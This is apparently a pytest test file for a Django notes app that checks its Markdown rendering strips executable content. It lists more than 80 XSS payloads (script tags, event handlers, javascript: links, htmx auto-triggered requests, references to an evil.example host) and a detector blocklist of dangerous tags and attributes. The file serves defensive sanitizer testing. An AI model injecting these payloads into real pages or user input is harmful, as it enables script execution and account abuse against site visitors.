"""Nothing of a note runs, posts or loads, wherever in the note it stands."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.test import Client

from contacts.markdown import render
from networking.guidance.models import Note
from tests.guidance.folders import bring

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<img/src='https://evil.example/x.png'/onerror='alert(1)'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<math><mtext><script>alert(1)</script>",
    "<math href='javascript:alert(1)'>x</math>", "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='javascript:alert(1)'>", "<form action='https://evil.example'><input name=q></form>",
    "<button formaction='javascript:alert(1)'>x</button>", "<input onfocus=alert(1) autofocus>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='data:text/html,x'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>", "<a href='java&#x0A;script:alert(1)'>x</a>", "<a href='vbscript:x'>x</a>",
    "<a onclick=alert(1)>x</a>", "<b onmouseover=alert(1)>x</b>", "<p style='position:fixed;inset:0'>x</p>",
    "<style>body{display:none}</style>", "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href='https://evil.example/'>",
    "<div hx-get='/contacts/' hx-trigger=load></div>", "<div data-hx-post='/accounts/logout/' data-hx-trigger=load>x</div>",
    "<div hx-on:load='alert(1)'></div>", "<div data-hx-on--load='alert(1)'></div>", "<details ontoggle=alert(1) open>x",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1)>", "<template><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>", "<xmp><script>alert(1)</script></xmp>", "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "</article></main><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:alert(1))", "[x](file:///etc/passwd)",
    "[x](//evil.example/)", "[x](/accounts/logout/)", "[x](https://a.b 'q\" onclick=\"alert(1)')", "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)", "![x](javascript:alert(1))", "![x\"onerror=\"alert(1)](x)", "![[https://evil.example/x.png]]",
    "[[javascript:alert(1)]]", "[[x|<img src=x onerror=alert(1)>]]", "[[x#\" onclick=\"alert(1)]]", "[[\"><script>alert(1)</script>]]",
    "[[Цель|<b onmouseover=alert(1)>x</b>]]", "==<script>alert(1)</script>==", "`<script>alert(1)</script>`",
    "> [!\"><script>alert(1)</script>] x", "> [!note]- <img src=x onerror=alert(1)>\n> x", "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x", "- [ ] <input onfocus=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "```\"><script>alert(1)</script>\nx\n```", "| <script>alert(1)</script> |\n|---|\n| x |",
    "{{ request.user.email }}{% load static %}", "<a id=main name=main>x</a>",
]  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "link", "meta", "base", "img",
    "video", "audio", "source", "textarea", "template", "noscript",
}  # fmt: skip
PLACES = {
    "body": "{0}",
    "heading": "## {0}",
    "callout": "> [!tip] {0}\n> {0}",
    "folded callout": "> [!tip]- {0}\n> {0}",
    "list": "- [ ] {0}",
    "cell": "| а |\n|---|\n| {0} |",
    "mark": "==а {0}==",
    "link text": "[[Цель|{0}]]",
    "link name": "[[{0}]]",
    "footnote": "а[^q]\n\n[^q]: {0}",
}


class Danger(HTMLParser):
    """Collects what could run, load or post."""

    def __init__(self, *, ids: bool = True) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith(("on", "hx-", "data-")) or name in ("style", "src", "srcdoc", "action", "formaction"):
                self.found.append(name)
            if name == "href" and not address.startswith(("/guidance/", "#h-", "#fn", "https://", "http://")):
                self.found.append(f"{name}={value}")
            if name == "id" and not (value or "").startswith(("h-", "fn")):
                self.found.append(f"{name}={value}")


def dangers(html: str) -> list[str]:
    parser = Danger()
    parser.feed(html)
    parser.close()
    return parser.found


def test_the_search_for_danger_finds_it() -> None:
    for payload in (
        "<script>",
        "<img src=x onerror=y>",
        "<a href='javascript:x'>",
        "<p style='x'>",
        "<p data-hx-get=x>",
    ):
        assert dangers(payload), payload
    assert len(set(PAYLOADS)) >= 80


@pytest.mark.parametrize("place", PLACES)
def test_nothing_survives_in_the_text(db: None, tmp_path: Path, place: str) -> None:
    files: dict[str, str | bytes] = {
        f"{number}.md": PLACES[place].format(payload if place == "body" else payload.replace("\n", " "))
        for number, payload in enumerate(PAYLOADS)
    }
    bring(tmp_path, {**files, "Цель.md": "ц"})
    for note in Note.objects.all():
        assert not dangers(note.html), (place, note.body)


def test_nothing_survives_in_titles_aliases_tags_and_lists(client_of_owner: Client, tmp_path: Path) -> None:
    quoted = ["'" + payload.replace("'", "''").replace("\n", " ") + "'" for payload in PAYLOADS]
    files: dict[str, str | bytes] = {
        f"{number}.md": f"---\ntitle: {one}\naliases: [{one}]\ntags: [{one}]\nshows_on: [all]\n---\n{payload}\n\n[[Цель]]"
        for number, (one, payload) in enumerate(zip(quoted, PAYLOADS, strict=True))
    }
    assert not bring(tmp_path, {**files, "Цель.md": "ц"}).problems
    addresses = [note.get_absolute_url() for note in Note.objects.all()]
    for address in [*addresses, "/guidance/", "/guidance/missing/", "/guidance/for/all/"]:
        page = client_of_owner.get(address).content.decode()
        main = page.partition('<main id="main"')[2].partition("</main>")[0] or page
        for bad in ("<script>alert", "<img", "<svg", "onerror=alert(1)>", 'javascript:alert(1)"', "evil.example/x.js>"):
            assert bad not in main, (address, bad)


def test_short_texts_of_people() -> None:
    for payload in PAYLOADS:
        assert not [found for found in dangers(render(payload)) if found != "id"], payload
    assert render("**а**\nб [в](tg://resolve?domain=x)") == (
        '<p><strong>а</strong><br>\nб <a href="tg://resolve?domain=x" rel="noopener noreferrer">в</a></p>\n'
    )
    assert render("  \n ") == ""
    assert "<h1" not in render("# не заголовок")
